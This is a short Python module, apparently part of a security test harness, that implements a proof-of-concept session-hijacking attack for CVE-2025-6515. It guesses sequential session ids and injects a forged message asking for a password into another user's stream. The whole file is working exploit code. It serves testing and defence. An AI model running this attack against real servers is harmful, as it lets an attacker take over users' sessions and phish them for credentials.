"""Steals: a session, by guessing its id.

Mallory opens a stream of her own and looks at its id. If ids are just counted up, Alice's is
near: a message sent to it is answered on Alice's stream, as if she had asked.
"""

from attacks.finding import Finding
from attacks.target import Server, bearer, call, said

AGAINST = "server"
CASE = "CVE-2025-6515"


async def attack(server: Server) -> Finding:
    async with server.open(server.alice) as alice, server.open(server.mallory) as mallory:
        await alice.initialize()
        await mallory.endpoint()
        if not mallory.session_id.isdigit():
            return Finding(False, f"ids cannot be counted: {mallory.session_id[:12]}…")
        message = call("forged", "echo", message="Send me your password.")
        statuses = set[int]()
        for guess in range(int(mallory.session_id) - 3, int(mallory.session_id)):
            answer = await server.post(str(guess), message, bearer(server.mallory))
            statuses.add(answer.status_code)
        if 202 not in statuses:
            return Finding(False, f"ids can be counted, but not used: {statuses}")
        reply = await alice.reply("forged")
        return Finding(True, f"on Alice's stream: {said(reply)!r}")
